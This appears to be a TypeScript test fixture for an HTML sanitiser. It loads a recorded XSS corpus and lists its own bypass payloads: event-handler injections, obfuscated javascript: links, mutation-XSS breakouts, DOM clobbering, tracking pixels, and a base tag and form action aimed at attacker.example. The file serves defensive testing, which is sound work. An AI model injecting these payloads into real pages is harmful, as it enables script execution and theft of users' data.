import { listSamples, readSample } from '../support/samples.js';

/** One attack, or one harmless text that must come through. */
export interface Payload {
  id: string;
  /** The HTML to sanitise. */
  html: string;
  /** Whether it runs script in Chromium when nothing sanitises it. */
  live: boolean;
}

function escapeAttribute(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
}

/** What an attacker would put in a description with one recorded string. */
function htmlOf(payload: string, context: string): string {
  if (context === 'url') return `<p><a href="${escapeAttribute(payload)}">link</a></p>`;
  if (context === 'css')
    return `<p style="${escapeAttribute(payload)}">x</p><style>${payload}</style>`;
  return payload;
}

/** Every recorded attack. */
export async function recordedPayloads(): Promise<Payload[]> {
  const payloads: Payload[] = [];
  for (const file of await listSamples('corpora/xss')) {
    const rows = JSON.parse(await readSample(`corpora/xss/${file}`)) as Record<string, unknown>[];
    for (const row of rows) {
      payloads.push({
        id: String(row['id']),
        html: htmlOf(String(row['payload']), String(row['context'])),
        live: row['live_chromium156'] === true,
      });
    }
  }
  return payloads;
}

const run = 'alert(1)';

/** Attacks of our own words, one for each way that sanitisers have been passed. */
export const ownPayloads: Payload[] = [
  ['image-error', `<img src=nowhere onerror=${run}>`, true],
  ['script', `<p>before</p><script>${run}</script>`, true],
  ['svg-load', `<svg onload=${run}></svg>`, true],
  ['svg-script', `<svg><script>${run}</script></svg>`, true],
  ['details-toggle', `<details open ontoggle=${run}><summary>s</summary>t</details>`, true],
  [
    'style-in-math',
    `<math><mtext><table><mglyph><style><!--</style><img src=q onerror=${run}>`,
    true,
  ],
  ['title-breakout', `<svg><title></title></svg><img src=q onerror=${run}>`, true],
  ['comment-breakout', `<!--><img src=q onerror=${run}>-->`, true],
  ['noscript', `<noscript><p title="</noscript><img src=q onerror=${run}>">`, true],
  ['javascript-link', `<a href="javascript:${run}">go</a>`, true],
  ['javascript-spaced', `<a href=" java\tscript:${run}">go</a>`, true],
  ['javascript-entity', `<a href="&#106;avascript&colon;${run}">go</a>`, true],
  ['data-link', `<a href="data:text/html,<script>${run}</script>">go</a>`, false],
  ['frame', `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`, true],
  ['object', `<object data="javascript:${run}"></object>`, false],
  ['form-action', `<form action="javascript:${run}"><button>send</button></form>`, true],
  ['template', `<template shadowrootmode="open"><img src=q onerror=${run}></template>`, false],
  ['own-element', '<apply-form action="https://attacker.example/steal"></apply-form>', false],
  ['form-clobber', '<form><input name="childNodes"><input name="attributes"></form>', false],
  ['clobber-id', '<a id="location"></a><img name="fetch" src="x">', false],
  ['style-attribute', '<p style="position:fixed;inset:0;background:red">over</p>', false],
  ['class-and-part', '<p class="button primary" part="apply" slot="header">fake</p>', false],
  ['live-region', '<p role="alert" aria-live="assertive" tabindex="1">fake</p>', false],
  ['pixel', '<img src="https://tracker.example/pixel.gif" width="1" height="1" alt="">', false],
  ['srcset', '<img srcset="https://tracker.example/a 1x" alt="a">', false],
  ['ping', '<a href="https://example.com/" ping="https://tracker.example/">x</a>', false],
  ['opener', '<a href="https://example.com/" target="_blank" rel="opener">x</a>', false],
  ['base', '<base href="https://attacker.example/"><a href="/jobs">jobs</a>', false],
  [
    'nested-links',
    '<a href="https://a.example">a<table><a href="https://b.example">b</a></table></a>',
    false,
  ],
  ['deep', '<div>'.repeat(3000) + 'deep' + '</div>'.repeat(3000), false],
  [
    'many-names',
    Array.from({ length: 400 }, (_, index) => `<x-${index}>`).join('') + 'text',
    false,
  ],
  ['prefixed', '<o:p>kept</o:p>', false],
].map(([id, html, live]) => ({ id: String(id), html: String(html), live: live === true }));
